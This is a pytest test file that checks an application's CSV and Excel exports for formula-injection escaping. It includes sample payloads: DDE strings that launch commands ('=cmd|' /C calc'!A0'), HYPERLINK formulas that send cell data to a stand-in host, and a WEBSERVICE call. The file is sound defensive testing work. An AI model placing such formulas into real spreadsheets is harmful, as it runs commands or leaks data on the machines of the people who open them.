"""Check 13: no table that leaves the desk holds a formula of somebody else's, and none is run."""

import ast
import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from listings.tables import Added, Layout
from listings.tables_csv import CsvRows, CsvSink
from listings.tables_xlsx import XlsxRows, XlsxSink
from support.importing.files import rows
from support.importing.workbook import rows as sheet_rows
from support.table_rows import as_written, is_formula, no_formula, typed_text
from web.cli import faqdesk as group
from web.sheets import Sheet, csv_rows, write_csv, write_xlsx

ROOT = Path(__file__).parents[2]
# Every module that makes a CSV or a workbook; how it is escaped is tested where it says, or here.
WRITERS = {
    "web/sheets.py",  # every table of the console, the API and the commands
    "support/inquiry_map.py",  # a region of the map
    "listings/tree_files.py",  # a category tree, a mapping
    "listings/label_reports.py",  # problems and disagreements beside a labelled table
    "listings/tables_csv.py",  # a labelled or judged table
    "listings/tables_xlsx.py",
    "data/__init__.py",  # the shipped sample
    "train/bench_label.py",  # a made-up table to measure with
    "train/bench_scale_desk.py",  # the same, of inquiries
    "web/cli/bench_sample.py",  # the shipped sample, made shorter
}
# What a spreadsheet runs, calculates, or asks another machine for.
BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
BEFORE = ["", " ", "  ", "\u3000", "\u00a0", "'", '"', "''", " '\"", "\ufeff", "\u200b", "\0", "“"]
HOSTILE = [
    *(before + sign + 'HYPERLINK("http://h/"&A1)' for before in BEFORE for sign in BEGINNINGS),
    *(first + words for first in "\t\r\n\0" for words in ("=1+1", "a", "")),
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-", "-a",
    "=1+1;=2", "\r\n=1+1",
]  # fmt: skip
HARMLESS = [
    "a",
    "가격 = 3",
    "환불해 주세요",
    "a-b",
    "me@example.com",
    "'quoted'",
    "“말”",
    "",
    " a",
    "1=1",
]
NUMBERS = ["-5", "+3", "-1,000", "-1.5", "+2.5e-3", "-10%", "0", "12"]

ANY = st.text(
    st.characters(exclude_categories=("Cs",))
    | st.sampled_from("=+-@＝＋－＠'\"\t\r\n\0 \u3000\ufeff\u200b0123456789.,e%a가"),
    max_size=12,
)


def cells(body: bytes) -> list[list[str]]:
    """A table as a spreadsheet would read it."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_may_be_a_formula_goes_out_as_text_and_comes_back(text):
    assert no_formula(text) == f"'{text}"
    assert as_written(no_formula(text)) == as_written(typed_text(text)) == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_all_else_and_numbers_stay_as_they_are(text):
    assert no_formula(text) == typed_text(text) == as_written(text) == text


@given(ANY)
def test_nothing_that_leaves_begins_as_a_formula_and_the_way_back_is_exact(text):
    out = no_formula(text)
    bare = out.strip(" \t\r\n\0\u3000\ufeff\u200b\"'")
    if out == text and is_formula(text):
        float(bare.replace(",", "").rstrip("%"))  # a number, and nothing but one
    assert out[:1] not in ("=", "@", "\t", "\r", "\n", "\0")
    assert as_written(out) == text
    assert as_written(typed_text(text)) == text


@pytest.mark.parametrize("value", [-5, 1.5, None, True, 0])
def test_values_that_are_no_text_are_numbers_in_the_table(value):
    assert no_formula(value) is value


TABLE = [*HOSTILE, *HARMLESS, *NUMBERS]


def test_a_csv_is_of_rfc_4180_and_its_names_are_escaped_too():
    body = write_csv(Sheet("t", ("=name", "n"), [(text, -5) for text in TABLE]))
    assert body.startswith(b"\xef\xbb\xbf'=name,n\r\n")
    assert cells(body) == [["'=name", "n"], *([no_formula(text), "-5"] for text in TABLE)]
    assert body.count(b"\r\n") >= len(TABLE) + 1
    assert csv_rows([("=1+1", 'a"b', "a,b", "a\nb")]) == b'\'=1+1,"a""b","a,b","a\nb"\r\n'


def test_a_workbook_holds_words_as_words_and_numbers_as_numbers():
    legal = [text for text in TABLE if "\0" not in text]  # XML holds no NUL
    body = write_xlsx([Sheet("=t", ("=name", "n"), [(text, -5) for text in legal])])
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for name, number in list(sheet.iter_rows())[1:]:
        assert name.data_type != "f"
        assert not isinstance(name.value, int | float)
        assert (number.data_type, number.value) == ("n", -5)
        if name.value and is_formula(str(name.value)):
            assert name.quotePrefix  # stays text where somebody edits the cell
    assert sheet["A1"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        for part in packed.namelist():
            assert b"<f>" not in packed.read(part), part
            assert "externalLink" not in part


def test_what_was_taken_away_is_taken_in_again_exactly(tmp_path):
    # The importers drop NULs and fold line ends of a workbook; nothing else changes.
    kept = [text for text in TABLE if "\0" not in text and "\r" not in text]
    sheet = Sheet("t", ("id", "question"), [(str(n), text) for n, text in enumerate(kept)])
    (tmp_path / "t.csv").write_bytes(write_csv(sheet))
    assert [row["question"] for _, row in rows(tmp_path / "t.csv")] == kept
    (tmp_path / "t.xlsx").write_bytes(write_xlsx([sheet]))
    assert [row["question"] for _, row in sheet_rows(tmp_path / "t.xlsx")] == kept


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_labelled_table_holds_the_sellers_words_as_words_however_often_it_goes_round(
    tmp_path, separator
):
    layout = Layout(
        source="csv", sink="csv", columns=["title", "=price"], added=[("category", "text")],
        separator=separator, source_separator=separator, line_end="\r\n", mark=True,
    )  # fmt: skip
    block = tmp_path / "block.csv"
    first = [[text, "-5"] for text in TABLE]
    for _ in range(3):
        with block.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, delimiter=separator).writerows(first)
        added = [Added("category", "text", ["=category"] * len(first))]
        CsvSink().write(CsvRows(block, layout), added, layout, tmp_path / "part.csv")
        CsvSink().join(iter([tmp_path / "part.csv"]), layout, tmp_path / "out.csv")
        with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
            head, *found = csv.reader(file, delimiter=separator)
        assert head == ["title", "'=price", "category"]
        for (text, _), (title, price, category) in zip(first, found, strict=True):
            assert title == (text if text.startswith("'") else no_formula(text))
            assert (price, category) == ("-5", "'=category")
        first = [row[:2] for row in found]


def test_a_labelled_workbook_too(tmp_path):
    layout = Layout(source="xlsx", sink="xlsx", columns=["title"], added=[("category", "text")])
    block = tmp_path / "block.jsonl"
    block.write_text("".join(json.dumps([text]) + "\n" for text in TABLE), encoding="utf-8")
    added = [Added("category", "text", ["=category"] * len(TABLE))]
    XlsxSink().write(XlsxRows(block), added, layout, tmp_path / "part.jsonl")
    XlsxSink().join(iter([tmp_path / "part.jsonl"]), layout, tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    for title, category in list(sheet.iter_rows())[1:]:
        assert title.data_type != "f"
        assert (category.data_type, category.value) == ("s", "=category")


def writers() -> Iterator[str]:
    """The modules that make a CSV or a workbook, by what they call."""
    for folder in ("support", "listings", "train", "web", "data"):
        for path in (ROOT / folder).rglob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            called = {ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)}
            if called & {"csv.writer", "csv.DictWriter", "Workbook", "openpyxl.Workbook"} or any(
                name.endswith((".to_csv", ".to_excel", "write_csv_rows")) for name in called
            ):
                yield path.relative_to(ROOT).as_posix()


def test_every_module_that_writes_a_table_is_written_down_here():
    assert set(writers()) == WRITERS


# Pages and calls that send a table, and by which writer.
SENDERS = {
    "web/archive_page.py": "sheets",
    "web/audit_page.py": "sheets",
    "web/api_export.py": "sheets",
    "web/categories_page.py": "tree_files",
    "web/map_export.py": "inquiry_map",
    "web/table_files.py": "sheets",
    "web/week_page.py": "sheets",
}
# Commands that write files, and which of them are tables of words, by which writer.
FILES = {
    "week": "sheets", "inquiries answered": "sheets", "audit": "sheets",
    "faqs export": "table_files", "replies export": "table_files", "map region": "inquiry_map",
    "label": "labelling", "moderate": "judge",
}  # fmt: skip
NO_TABLES = {
    "train encoder", "evaluate", "map export", "review export", "backup", "restore", "bench loop",
    "bench web", "bench load", "similar find", "serve-index",
    "index", "similar index",  # the folder of what travels to other machines
}  # fmt: skip
READING = {
    "import", "import-faqs", "collect files", "faqs import", "replies import", "review import",
    "moderation import",
}  # fmt: skip


def test_every_page_that_sends_a_table_is_written_down_here():
    found = {}
    for path in (ROOT / "web").glob("*.py"):
        source, name = path.read_text(encoding="utf-8"), path.relative_to(ROOT).as_posix()
        if name != "web/sheets.py" and re.search(r"text/csv|spreadsheetml|\bcsv_rows\b", source):
            found[name] = source
    assert set(found) == set(SENDERS)
    for name, source in found.items():
        assert re.search(rf"\bimport\b.*\b{SENDERS[name]}\b|{SENDERS[name]} import", source), name


def commands(command, path=()):
    yield " ".join(path), command
    if isinstance(command, click.Group):
        context = click.Context(command)
        for name in command.list_commands(context):
            yield from commands(command.get_command(context, name), (*path, name))


def test_every_command_that_writes_a_file_is_written_down_here():
    found = {
        name
        for name, command in commands(group)
        for param in command.params
        if isinstance(param.type, click.Path)
        and not param.type.exists
        and not (name.startswith("bench ") and name not in NO_TABLES)  # reads what it measures
    }
    assert found == set(FILES) | NO_TABLES | READING


def test_a_workbook_that_is_taken_in_runs_no_formula_and_asks_nobody(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["id", "question"])
    sheet.append(["1", '=WEBSERVICE("http://127.0.0.1:9/")'])
    sheet.append(["2", "환불"])
    book.save(tmp_path / "t.xlsx")
    found = dict(sheet_rows(tmp_path / "t.xlsx"))
    assert "saved without its value" in found[2].reason  # what was never worked out is not here
    assert found[3] == {"id": "2", "question": "환불"}
